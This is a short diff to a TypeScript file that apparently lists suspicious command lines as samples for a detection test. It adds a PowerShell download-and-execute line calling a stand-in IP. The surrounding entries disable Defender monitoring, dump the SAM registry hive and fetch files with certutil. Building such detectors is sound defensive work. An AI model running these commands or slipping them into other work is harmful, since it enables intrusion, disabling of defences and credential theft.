@@ -57,6 +57,7 @@ const sights: Record<string, readonly (string | readonly [string, Parameters<typ
     'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
     'cmd /c whoami > \\Windows\\Temp\\a1b2c3 2>&1',
     'reg save hklm\\sam C:\\a\\s',
+    'powershell -c IEX(New-Object Net.WebClient).DownloadString("http://192.0.2.2/s")',
   ],
   fetches: ['D:\\a\\b.exe https://host.example.net/x', 'certutil -urlcache -f x y'],
   address: ['D:\\a\\b.exe 192.0.2.5 4449'],
